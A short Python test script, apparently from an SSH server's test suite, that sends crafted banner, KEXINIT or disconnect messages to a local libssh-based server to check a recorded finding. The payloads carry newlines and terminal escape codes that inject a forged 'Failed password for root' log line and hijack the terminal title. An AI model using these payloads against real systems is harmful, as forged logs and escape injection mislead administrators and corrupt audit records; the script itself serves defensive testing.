#!/usr/bin/python3
# Sends outside text holding LF and ESC to the places libssh copies into its
# key-exchange error (F1 of reliability.md): the client banner, the KEXINIT
# kex name-list, the text of an SSH_MSG_DISCONNECT.
# usage: log-forge.py PORT banner|kexinit|disconnect
import os, struct, sys, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sshpkt import connect, kexinit, packet, sstr

FORGED = "2026-12-01T18:00:00Z tinklas[1]: Failed password for root from 10.9.8.7 port 22 ssh2"
port, what = int(sys.argv[1]), sys.argv[2]
s = connect("127.0.0.1", port)
s.recv(100)
if what == "banner":
    s.sendall(b"\x1b]0;pwned\x07 hello\x1b[2J\r\n")
else:
    s.sendall(b"SSH-2.0-OpenSSH_9.2\r\n")
    # libssh 0.10 leaves bytes that came in one read with the banner
    # unprocessed until more arrive: send the packet apart, as clients do.
    s.recv(3000)
    if what == "kexinit":
        s.sendall(packet(kexinit(kex="x\n" + FORGED + "\n\x1b]0;pwned\x07")))
    else:
        s.sendall(packet(bytes([1]) + struct.pack(">I", 11) +
            sstr("bye\n" + FORGED + "\n\x1b[31mRED") + sstr("")))
time.sleep(0.5)
try:
    s.recv(3000)
except Exception:
    pass
s.close()
